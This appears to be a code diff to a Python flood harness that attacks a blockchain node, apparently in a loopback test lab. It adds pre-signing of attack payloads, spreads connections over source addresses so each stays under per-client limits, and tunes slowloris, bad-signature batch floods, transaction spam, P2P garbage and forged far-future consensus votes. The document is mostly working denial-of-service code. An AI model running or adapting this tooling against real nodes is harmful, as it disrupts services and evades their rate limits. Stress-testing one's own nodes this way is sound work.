@@ -12,12 +12,14 @@ import asyncio
 import contextlib
 import hashlib
 import itertools
+import multiprocessing
 import os
 import random
 import struct
 import time
 from collections import Counter
-from collections.abc import Awaitable, Callable, Sequence
+from collections.abc import Awaitable, Callable, Iterator, Sequence
+from concurrent.futures import ProcessPoolExecutor
 from dataclasses import dataclass, field
 from typing import Any
 
@@ -70,7 +72,7 @@ class Target:
     genesis_hash: str
     delegates: Sequence[str]
     height: int
-    spam_keys: Sequence[sdk.PrivateKey] = ()
+    spam_secrets: Sequence[str] = ()  # hex: what crosses to the flood's own process
     spam_nonces: dict[str, int] = field(default_factory=dict)  # address -> next nonce
 
 
@@ -79,9 +81,41 @@ class Flood:
         self.plan = plan.check()
         self.target = target
         self.tally = Tally()
-        self._sources = itertools.cycle(plan.sources or (None,))
+        self._pools = _pools(plan.sources)
         self._deadline = 0.0
         self._rng = random.Random(7)
+        self._batch_req = b""
+        self._bad_reqs: list[bytes] = []
+        self._spam_bodies: list[bytes] = []
+        self._empty_reqs: list[bytes] = []
+
+    def prepare(self) -> None:
+        """Sign everything the attacks send, before the flood starts: signing is CPU the flood's event loop
+        would otherwise spend instead of sending (and its answers would look late)."""
+        t = self.target
+        if "batch" in self.plan.attacks:
+            body = orjson.dumps({"actions": [self._bad_signature(1 + i) for i in range(2000)]})
+            self._batch_req = self._req("POST", "/v1/actions/batch", body)
+        if "bad_signatures" in self.plan.attacks:
+            self._bad_reqs = [self._req("POST", "/v1/actions", orjson.dumps(self._bad_signature(1))) for _ in range(50)]
+        keys = [sdk.PrivateKey.from_hex(x) for x in t.spam_secrets]
+        if "spam_funded" in self.plan.attacks and keys and self.plan.spam > 0:
+            per_key = max(1, self.plan.spam // len(keys))
+            to = sdk.PrivateKey().address
+            for k in keys:
+                n0 = t.spam_nonces.get(k.address, 1)
+                acts = [
+                    sdk.transfer(k, chain_id=t.chain_id, nonce=n0 + i, fee=t.min_fee, to=to, amount=1).to_wire()
+                    for i in range(per_key)
+                ]
+                for i in range(0, len(acts), 100):
+                    self._spam_bodies.append(self._req("POST", "/v1/actions/batch", orjson.dumps({"actions": acts[i : i + 100]})))
+        if "spam_empty" in self.plan.attacks:
+            to = sdk.PrivateKey().address
+            for i in range(self.plan.spam_empty):
+                fee = 0 if i % 2 else t.min_fee
+                a = sdk.transfer(sdk.PrivateKey(), chain_id=t.chain_id, nonce=1, fee=fee, to=to, amount=1).to_wire()
+                self._empty_reqs.append(self._req("POST", "/v1/actions", orjson.dumps(a)))
 
     # --- plumbing ------------------------------------------------------------------------------------
 
@@ -94,8 +128,8 @@ class Flood:
         self.tally.requests += 1
         return True
 
-    async def _open(self, host: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
-        src = next(self._sources)
+    async def _open(self, host: str, port: int, attack: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
+        src = next(self._pools[_GROUP.get(attack, "other")])
         try:
             return await asyncio.wait_for(
                 asyncio.open_connection(host, port, local_addr=(src, 0) if src else None),
@@ -137,7 +171,7 @@ class Flood:
 
     async def _http(self, attack: str, request: bytes, *, rounds: int = 1) -> None:
         """Send `request` up to `rounds` times on one keep-alive connection, reading each answer."""
-        conn = await self._open(self.plan.api_host, self.plan.api_port)
+        conn = await self._open(self.plan.api_host, self.plan.api_port, attack)
         if conn is None:
             return
         reader, writer = conn
@@ -180,8 +214,9 @@ class Flood:
 
     async def slowloris(self) -> None:
         async def one() -> None:
-            conn = await self._open(self.plan.api_host, self.plan.api_port)
+            conn = await self._open(self.plan.api_host, self.plan.api_port, "slowloris")
             if conn is None:
+                await asyncio.sleep(0.2)
                 return
             reader, writer = conn
             start = time.monotonic()
@@ -239,46 +274,33 @@ class Flood:
         return wire
 
     async def batch(self) -> None:
-        body = orjson.dumps({"actions": [self._bad_signature(1 + i) for i in range(2000)]})
-        req = self._req("POST", "/v1/actions/batch", body)
-        await self._repeat(lambda: self._http("batch", req), 4)
+        await self._repeat(lambda: self._http("batch", self._batch_req), 4)
 
     async def bad_signatures(self) -> None:
-        reqs = [self._req("POST", "/v1/actions", orjson.dumps(self._bad_signature(1))) for _ in range(50)]
-        await self._repeat(lambda: self._http("bad_signatures", self._rng.choice(reqs), rounds=20), 8)
+        await self._repeat(lambda: self._http("bad_signatures", self._rng.choice(self._bad_reqs), rounds=20), 8)
 
     async def spam_funded(self) -> None:
-        keys = list(self.target.spam_keys)
-        if not keys or self.plan.spam <= 0:
+        """The batches spread evenly over the flood (a sustained flood, not one burst), two at a time."""
+        queue = list(self._spam_bodies)
+        if not queue:
             return
-        per_key = max(1, self.plan.spam // len(keys))
-        to = sdk.PrivateKey().address
-        bodies = []
-        for k in keys:
-            n0 = self.target.spam_nonces.get(k.address, 1)
-            acts = [
-                sdk.transfer(k, chain_id=self.target.chain_id, nonce=n0 + i, fee=self.target.min_fee, to=to, amount=1).to_wire()
-                for i in range(per_key)
-            ]
-            for i in range(0, len(acts), 100):
-                bodies.append(orjson.dumps({"actions": acts[i : i + 100]}))
-        queue = list(bodies)
+        gap = self.plan.duration_s * 0.8 / len(queue)
+        start = time.monotonic()
+        sent = 0
 
         async def worker() -> None:
+            nonlocal sent
             while queue and self._left() > 0:
-                await self._http("spam_funded", self._req("POST", "/v1/actions/batch", queue.pop(0)))
+                body = queue.pop(0)
+                due = start + sent * gap
+                sent += 1
+                await asyncio.sleep(max(0.0, due - time.monotonic()))
+                await self._http("spam_funded", body)
 
-        await asyncio.gather(*(worker() for _ in range(min(8, len(queue)))))
+        await asyncio.gather(worker(), worker())
 
     async def spam_empty(self) -> None:
-        n = self.plan.spam_empty
-        to = sdk.PrivateKey().address
-        acts = [
-            sdk.transfer(sdk.PrivateKey(), chain_id=self.target.chain_id, nonce=1, fee=(0 if i % 2 else self.target.min_fee),
-                         to=to, amount=1).to_wire()
-            for i in range(n)
-        ]  # fmt: skip
-        reqs = [self._req("POST", "/v1/actions", orjson.dumps(a)) for a in acts]
+        reqs = self._empty_reqs
 
         async def worker(part: list[bytes]) -> None:
             for r in part:
@@ -291,8 +313,9 @@ class Flood:
     # --- P2P -------------------------------------------------------------------------------------------
 
     async def _p2p_hold(self, attack: str, send: bytes) -> None:
-        conn = await self._open(self.plan.p2p_host, self.plan.p2p_port)
+        conn = await self._open(self.plan.p2p_host, self.plan.p2p_port, attack)
         if conn is None:
+            await asyncio.sleep(0.2)
             return
         reader, writer = conn
         start = time.monotonic()
@@ -333,7 +356,7 @@ class Flood:
 
     async def _peer(self, attack: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
         """An authenticated P2P connection under a fresh node key (any key may handshake: the chain is public)."""
-        conn = await self._open(self.plan.p2p_host, self.plan.p2p_port)
+        conn = await self._open(self.plan.p2p_host, self.plan.p2p_port, attack)
         if conn is None:
             return None
         reader, writer = conn
@@ -378,8 +401,10 @@ class Flood:
                 await asyncio.sleep(0.5)
                 return
             reader, writer = conn
+            # any height past the tip: the node checks a vote's signature before it keeps or drops it by height
             voter = self._rng.choice(list(self.target.delegates)) if self.target.delegates else sdk.PrivateKey().address
-            vote = {"t": "vote", "type": "prevote", "height": self.target.height + 2, "round": 0, "block": os.urandom(32).hex(),
+            h = self.target.height + 10**6
+            vote = {"t": "vote", "type": "prevote", "height": h, "round": 0, "block": os.urandom(32).hex(),
                     "voter": voter, "signature": os.urandom(65).hex()}  # fmt: skip
             with contextlib.suppress(OSError):
                 writer.write(_frame(vote))
@@ -407,6 +432,8 @@ class Flood:
     # --- running -------------------------------------------------------------------------------------
 
     async def run(self) -> Tally:
+        if not (self._batch_req or self._bad_reqs or self._spam_bodies or self._empty_reqs):
+            self.prepare()
         self._deadline = time.monotonic() + self.plan.duration_s
         tasks = [asyncio.ensure_future(getattr(self, name)()) for name in self.plan.attacks]
         try:
@@ -421,8 +448,40 @@ class Flood:
 
 
 def run(plan: FloodPlan, target: Target) -> Tally:
-    """Run the flood to its end (its duration, plus at most 15 s to close its sockets)."""
-    return asyncio.run(Flood(plan, target).run())
+    """Sign what it sends, then run the flood to its end (its duration, plus at most 15 s to close its sockets)."""
+    flood = Flood(plan, target)
+    flood.prepare()
+    return asyncio.run(flood.run())
+
+
+def run_niced(plan: FloodPlan, target: Target, niceness: int = 15) -> Tally:
+    """`run` in a process of its own at a lower CPU priority: on a lab where attacker and nodes share the
+    cores, the attacker's own CPU (a real one has machines of its own) must not count as the node's weakness."""
+    ctx = multiprocessing.get_context("spawn")
+    with ProcessPoolExecutor(max_workers=1, mp_context=ctx, initializer=os.nice, initargs=(niceness,)) as pool:
+        return pool.submit(run, plan, target).result(timeout=plan.duration_s + 120)
+
+
+# Which of the plan's source addresses each attack connects from (on a loopback lab): the connection
+# floods from two clients (so that each passes its per-client limits), the slow clients from one, the P2P
+# sockets from two, the authenticated bad peers from one of their own, the rest from the last two.
+_GROUP = {
+    "connections": "connections",
+    "slowloris": "slow",
+    "p2p_idle": "p2p",
+    "p2p_garbage": "p2p",
+    "forged_consensus": "peers",
+    "lying_peer": "peers",
+}
+_SLICES = {"connections": (0, 2), "slow": (2, 3), "p2p": (3, 5), "peers": (5, 6), "other": (6, 8)}
+
+
+def _pools(sources: Sequence[str]) -> dict[str, Iterator[str | None]]:
+    out: dict[str, Iterator[str | None]] = {}
+    for group, (a, b) in _SLICES.items():
+        chosen: Sequence[str | None] = list(sources[a:b]) or list(sources[-1:]) or [None]
+        out[group] = itertools.cycle(chosen)
+    return out
 
 
 def _frame(msg: dict[str, Any]) -> bytes:
